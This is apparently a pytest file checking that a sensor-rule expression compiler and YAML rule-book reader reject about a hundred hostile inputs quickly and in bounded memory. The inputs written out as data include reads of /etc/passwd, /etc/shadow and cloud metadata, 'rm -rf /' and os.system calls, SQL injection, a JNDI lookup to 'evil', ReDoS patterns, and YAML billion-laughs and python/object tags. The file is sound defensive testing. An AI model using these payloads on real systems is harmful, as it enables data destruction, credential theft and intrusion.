"""A hundred expressions that are meant to escape or to explode: each is refused in a sentence, soon and within bounds.

Steps are calls of Python functions, which do not depend on how fast or busy the machine is.
"""

import sys
import tracemalloc
from types import FrameType
from typing import Any, Final, Self

import pytest

from ioc.model.city import Area
from ioc.runtime.marked_yaml import Misplaced, read_marked
from ioc.store.catalogue import load_catalogue
from rules.book import BadBook, read_book_text
from rules.expressions import compile_condition, scope_of

MOST_STEPS: Final = 150_000
MOST_BYTES: Final = 12_000_000

SCOPE = scope_of(
    load_catalogue(),
    "Asia/Ho_Chi_Minh",
    [Area("centre", {"vi": "Trung tâm"}, "ward", None, (((108.43, 11.93), (108.45, 11.93), (108.44, 11.95)),))],
)

FILES = [
    "read_csv('/etc/passwd') is not null",
    "read_parquet('s3://bucket/x') is null",
    "read_text('/proc/self/environ') ~ 'KEY'",
    "pg_read_file('/etc/shadow') = ''",
    "pg_read_binary_file('/etc/shadow') is null",
    "pg_ls_dir('/') is not null",
    "lo_import('/etc/passwd') > 0",
    "glob('/**') is not null",
    "load_file('\\\\evil\\share') is null",
    "pm25 > (select count(*) from read_csv_auto('/etc/passwd'))",
    "copy pm25 to '/tmp/x'",
    "parquet_scan('http://169.254.169.254/latest/meta-data') is null",
]
MACHINE = [
    "system('rm -rf /') = 0",
    "xp_cmdshell('dir') is null",
    "__import__('os').system('id') = 0",
    "eval('1+1') = 2",
    "exec('import os') is null",
    "getenv('HOME') = 'x'",
    "current_setting('data_directory') is null",
    "set_config('x', 'y', false) = 'y'",
    "pg_sleep(1000000) is null",
    "dblink('host=evil', 'select 1') is null",
    "load_extension('evil.so') is null",
    "install httpfs",
    "attach 'evil.db' as x",
    "pragma database_list",
    "query_to_xml('select 1', true, true, '') is null",
    "().__class__.__bases__ is null",
    "{{ 7 * 7 }} = 49",
    "${jndi:ldap://evil/x} is null",
    "`id` = 0",
    "pm25.__class__ is null",
    "lambda x: x > 1",
    "asset.name = 'x'",
]
TABLES = [
    "select 1",
    "exists (select 1)",
    "pm25 in (select pm25 from events)",
    "pm25 > all (select 1)",
    "pm25 > any (array[1, 2])",
    "with recursive t(n) as (select 1 union all select n + 1 from t) select n from t",
    "1 = 1; drop table events",
    "true union select true",
    "true) or (select true",
    "insert into events values (1)",
    "update events set pm25 = 1",
    "delete from events",
    "create table x (y int)",
    "grant all on events to public",
    "vacuum",
    "table events",
    "values (1), (2)",
    "pm25 > 1 limit 1",
]
OTHER_EVENTS = [
    "count(*) > 3",
    "avg(pm25) > 3",
    "sum(pm25) over (partition by asset) > 1",
    "lag(pm25) over (order by at) > 1",
    "row_number() over () = 1",
    "first_value(pm25) over w > 1",
    "string_agg(label, ',') = 'x'",
    "array_agg(pm25) is null",
    "percentile_cont(0.5) within group (order by pm25) > 1",
    "count(*) filter (where pm25 > 1) > 1",
    "max(pm25) > 1",
    "rank() over (order by pm25) = 1",
]
CLOCKS_AND_CHANCE = [
    "random() > 0.5",
    "gen_random_uuid() is null",
    "nextval('s') > 1",
    "at > now()",
    "current_timestamp > at",
    "clock_timestamp() > at",
    "setseed(0.5) is null",
    "current_date = at",
]
LARGE = [
    "repeat('x', 1000000000) = 'x'",
    "lpad('x', 1000000000, 'y') = 'x'",
    "generate_series(1, 1000000000) is null",
    "power(10, 1000000000) > 1",
    "label || label || label = 'x'",
    "pm25 > 1e999999999",
    "pm25 > " + "9" * 1_900,
    "pm25 > 10 ^ 10 ^ 10 ^ 10",
    "pm25 in (" + ", ".join(["1"] * 3_000) + ")",
    "array_fill(1, array[1000000000]) is null",
    "unnest(array[1, 2]) > 1",
    "x'" + "41" * 5_000 + "' = label",
]
DEEP = [
    "(" * 1_900 + "motion",
    "(" * 900 + "motion" + ")" * 900,
    "[" * 1_500,
    "{" * 1_500,
    "not " * 490 + "motion",
    "- " * 900 + "1 > 1",
    "-" * 1_990 + "1",
    " or ".join(["motion"] * 220),
    " and ".join(["1 = 1"] * 220),
    "+".join(["1"] * 900) + " > 1",
    "case when " * 150 + "true" + " then true end" * 20,
    "abs(" * 400 + "1" + ")" * 400 + " > 1",
    "coalesce(" * 180 + "1",
    "a." * 900 + "b = 1",
    "motion" + "::boolean" * 200,
    "pm25" + " is distinct from pm25" * 80,
    "cast(" * 300 + "1",
    "interval " * 200,
    "/*" * 900,
    "/* " * 400 + "*/ " * 400 + "motion",
    "'" + "''" * 990,
    "$$" + "x" * 1_000,
    "~" * 1_900 + "1",
    "@" * 1_900 + "1",
    "exists " * 250,
    "array" + "[array" * 45,
]
PATTERNS = [
    "label ~ '(a{1000}){1000}'",
    "label ~ '((((((a{9}){9}){9}){9}){9}){9}){9}'",
    "label ~ '\\w{1000}'",
    "label ~ '[^a]{999}'",
    "label ~ 'a{1,4294967295}'",
    "label ~ 'a{99999999999999999999}'",
    "label ~ '" + "(" * 400 + ")" * 400 + "'",
    "label ~ '" + "(?:a|" * 60 + "b" + ")" * 60 + "'",
    "label ~ '(a)\\1'",
    "label ~ '(?=a)*b'",
    "label ~ '(?<!a)b'",
    "label ~ '" + "a?" * 500 + "a" * 500 + "'",
    "label ~ '['",
    "label ~ '*'",
    "label ~ label",
    "label ~ ('a' || 'b')",
    "label similar to 'a%'",
    "label like '%%%%%%%%%%%a'",
]
ODD = [
    "\x00 = 1",
    "pm25 > 1\x00",
    "label = '\ud800'",
    "\u202epm25 > 1",
    "\u0440m25 > 1",
    "pm25 > ١",
    "pm25 = = 1",
    "pm25 > 5 parsecs",
    "temp_c > 5 °C/" + "m" * 1_000,
    "pm25 > 1 " + "µ" * 1_900,
    "inside('" + "x" * 1_000 + "')",
    "inside((select 'centre'))",
    "\U0001f525 > 1",
    ";",
    ")",
    "--",
]

CORPUS = FILES + MACHINE + TABLES + OTHER_EVENTS + CLOCKS_AND_CHANCE + LARGE + DEEP + PATTERNS + ODD

BILLION_LAUGHS = "\n".join(
    ["- rule: &a [lol]"] + [f"  k{n}: &{'bcdefghij'[n]} [{', '.join(['*' + 'abcdefghi'[n]] * 10)}]" for n in range(9)]
)
BOOKS = {
    "billion laughs": BILLION_LAUGHS,
    "an alias": "- &x {rule: a, from: sensor, threshold: {raise: pm25 > 1}}\n- *x",
    "a merge key": "- {<<: &b {rule: a}, from: sensor}\n- {<<: *b}",
    "a tag that makes an object": "- rule: !!python/object/apply:os.system ['id']\n",
    "a tag before a number": "- {rule: a, from: sensor, anomaly: {of: pm25, at_least: !!python/name:os.system 1}}",
    "very deep": "[" * 100_000,
    "very wide and wrong": "- {rule: a, from: sensor, threshold: {raise: " + "x" * 100_000 + "}}",
    "very large": "#" * 5_000_000,
    "many documents": "---\n" * 1_000,
    "two keys": "- {rule: a, rule: b}",
    "a huge number": "- {rule: a, from: sensor, threshold: {raise: pm25 > 1, for: " + "9" * 5_000 + " s}}",
    "a huge base 60 number": "- {rule: a, from: sensor, anomaly: {of: pm25, at_least: 1" + ":59" * 5_000 + "}}",
}


class Steps:
    """Counts calls while it is entered; ends what makes too many."""

    def __init__(self) -> None:
        self.count = 0

    def __enter__(self) -> Self:
        sys.setprofile(self._note)
        return self

    def __exit__(self, *_: object) -> None:
        sys.setprofile(None)

    def _note(self, _: FrameType, event: str, __: Any) -> None:
        if event in ("call", "c_call"):
            self.count += 1
            if self.count > 20 * MOST_STEPS:
                raise TimeoutError(f"more than {20 * MOST_STEPS} steps")


def as_yaml(text: str) -> str:
    """Write a text so that YAML gives it back as it is; what YAML refuses itself is refused as well."""
    escaped = "".join(c if c.isprintable() and c not in '"\\' else f"\\U{ord(c):08x}" for c in text)
    return f'- {{rule: hostile, from: sensor, threshold: {{raise: "{escaped}"}}}}\n'


def refusal_of(book: str) -> str:
    with pytest.raises(BadBook) as refusal:
        read_book_text(book, SCOPE)
    (mistake,) = refusal.value.mistakes
    return str(mistake)


def test_the_corpus_is_as_large_as_it_should_be_and_names_everything_once() -> None:
    assert len(CORPUS) >= 100
    assert len(set(CORPUS)) == len(CORPUS)


@pytest.mark.parametrize("text", CORPUS, ids=lambda text: ascii(text[:40]))
def test_an_expression_that_means_ill_is_refused_in_a_sentence(text: str) -> None:
    book = as_yaml(text)
    with Steps() as steps:
        sentence = refusal_of(book)
    assert sentence.startswith("rules.yaml:1:")
    assert 20 < len(sentence) < 500
    assert "\n" not in sentence
    assert steps.count < MOST_STEPS


def test_refusing_all_of_it_takes_little_memory() -> None:
    refusal_of(as_yaml("pm52 > 1"))
    tracemalloc.start()
    try:
        for text in CORPUS:
            tracemalloc.reset_peak()
            before = tracemalloc.get_traced_memory()[0]
            refusal_of(as_yaml(text))
            assert tracemalloc.get_traced_memory()[1] - before < MOST_BYTES, text[:60]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("name", BOOKS)
def test_a_book_that_means_ill_is_refused_in_a_sentence(name: str) -> None:
    with Steps() as steps, pytest.raises(BadBook) as refusal:
        read_book_text(BOOKS[name], SCOPE)
    assert steps.count < 20 * MOST_STEPS
    assert all(len(str(mistake)) < 700 for mistake in refusal.value.mistakes)


def test_what_is_refused_leaves_the_next_one_alone() -> None:
    """A parser that gave up must not have spoiled anything: the rule behind it in the file is read."""
    for text in CORPUS[::7]:
        with pytest.raises(BadBook):
            read_book_text(as_yaml(text), SCOPE)
        good = read_marked("pm25 > 150 and inside('centre')", "rules.yaml")
        assert good is not None
        assert compile_condition(good, SCOPE).columns == {"pm25", "lat", "lon"}


def test_no_sentence_shows_where_the_program_lies() -> None:
    for text in CORPUS:
        node = read_marked("x", "rules.yaml")
        assert node is not None
        with pytest.raises(Misplaced) as refusal:
            compile_condition(_with(node, text), SCOPE)
        assert ".py" not in str(refusal.value).replace("/etc", "")


def _with(node: Any, text: str) -> Any:
    node.node.value = text
    return node
